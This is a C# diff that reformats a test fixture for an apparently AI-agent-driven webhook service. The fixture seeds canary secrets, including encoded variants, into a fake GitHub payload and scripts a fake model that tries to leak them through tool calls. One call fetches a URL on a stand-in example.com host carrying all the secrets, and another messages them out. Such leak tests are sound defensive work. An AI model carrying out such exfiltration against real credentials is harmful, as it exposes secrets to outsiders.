@@ -23,9 +23,9 @@ internal sealed class CanaryWorld : IAsyncDisposable
     public static IReadOnlyList<(string Name, string Secret)> Secrets { get; } =
     [
         .. Canaries.All.Select(canary => (canary.Key, canary.Value)),
-        ("the source's secret", Services.GitHubSecret), ("the endpoint's secret", Services.StandardSecret), ("another source's secret", Services.ProviderSecret),
-        ("the verify token", "verify-token-for-tests"), ("the model's key", ModelServer.Key),
-        .. OfOne.Select(secret => ($"what the {secret.Key} alone knows", secret.Value)),
+        ("the source's secret", Services.GitHubSecret), ("the endpoint's secret", Services.StandardSecret),
+        ("another source's secret", Services.ProviderSecret), ("the verify token", "verify-token-for-tests"),
+        ("the model's key", ModelServer.Key), .. OfOne.Select(secret => ($"what the {secret.Key} alone knows", secret.Value)),
         ("the source's secret in base64", Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(Services.GitHubSecret))),
         ("the source's secret in hex", Convert.ToHexStringLower(System.Text.Encoding.UTF8.GetBytes(Services.GitHubSecret))),
         ("the source's secret in a URL", Uri.EscapeDataString(Services.GitHubSecret)),
@@ -33,13 +33,18 @@ internal sealed class CanaryWorld : IAsyncDisposable
 
     private static string All => string.Join(" and ", Secrets.Select(secret => secret.Secret));
 
-    /// <summary>A payload with all of them everywhere: in every field that is read, as names, in lists, in sentences, in JSON within.</summary>
+    /// <summary>
+    /// A payload with all of them everywhere: in every field that is read, as names, in lists, in sentences, in JSON within.
+    /// </summary>
     public static string Payload { get; } = JsonSerializer.Serialize(new
     {
         action = All,
         @ref = $"refs/heads/{Secrets[0].Secret}",
-        issue = new { number = 7, title = $"I lost {All}", body = All, labels = Secrets.Select(secret => new { name = secret.Secret }), html_url = $"https://x/?k={Secrets[9].Secret}", user = new { login = Secrets[3].Secret } },
-        commits = Secrets.Select(secret => new { id = secret.Secret, message = $"Add {secret.Secret} to the code", added = new[] { secret.Secret } }),
+        issue = new { number = 7, title = $"I lost {All}", body = All,
+            labels = Secrets.Select(secret => new { name = secret.Secret }), html_url = $"https://x/?k={Secrets[9].Secret}",
+            user = new { login = Secrets[3].Secret } },
+        commits = Secrets.Select(
+            secret => new { id = secret.Secret, message = $"Add {secret.Secret} to the code", added = new[] { secret.Secret } }),
         repository = new { full_name = Secrets[12].Secret },
         sender = new { login = Secrets[7].Secret },
         names = Secrets.ToDictionary(secret => secret.Secret, secret => 1, StringComparer.Ordinal),
@@ -104,7 +109,11 @@ internal sealed class CanaryWorld : IAsyncDisposable
             3 => ModelAnswer.Call("fetch_url", new { url = $"https://{Secrets[5].Secret}.example.com/{All}" }),
             4 => ModelAnswer.Call("read_event", new { pointer = $"/{Secrets[6].Secret}" }),
             5 => ModelAnswer.Call("send_message", new { type = Secrets[8].Secret, data = new { } }),
-            6 => ModelAnswer.Call("send_message", new { type = "issue.note", data = Secrets.ToDictionary(secret => secret.Secret, secret => $"It is {secret.Secret}.", StringComparer.Ordinal) }),
+            6 => ModelAnswer.Call(
+                "send_message",
+                new { type = "issue.note",
+                data = Secrets.ToDictionary(
+                secret => secret.Secret, secret => $"It is {secret.Secret}.", StringComparer.Ordinal) }),
             _ => $"I know {All}.",
         };
     }
@@ -114,10 +123,11 @@ internal sealed class CanaryWorld : IAsyncDisposable
         var root = $"Webhooks__Playbooks__{name}";
         return
         [
-            ($"{root}__Source", "github"), ($"{root}__EventTypes__0", type), ($"{root}__Instructions", $"Instructions of {name}."), ($"{root}__Agent", "openai"),
-            ($"{root}__Merchant", "acme"), ($"{root}__ResultType", "issue.triaged"), ($"{root}__MessageTypes__0", "issue.note"),
-            ($"{root}__AllowedHosts__0", $"localhost:{port}"),
-            ($"{root}__Tools__0", "fetch_url"), ($"{root}__Tools__1", "read_event"), ($"{root}__Tools__2", "send_message"),
+            ($"{root}__Source", "github"), ($"{root}__EventTypes__0", type),
+            ($"{root}__Instructions", $"Instructions of {name}."), ($"{root}__Agent", "openai"), ($"{root}__Merchant", "acme"),
+            ($"{root}__ResultType", "issue.triaged"), ($"{root}__MessageTypes__0", "issue.note"),
+            ($"{root}__AllowedHosts__0", $"localhost:{port}"), ($"{root}__Tools__0", "fetch_url"),
+            ($"{root}__Tools__1", "read_event"), ($"{root}__Tools__2", "send_message"),
             .. approval.Select((tool, index) => ($"{root}__RequireApproval__{index}", tool)),
         ];
     }
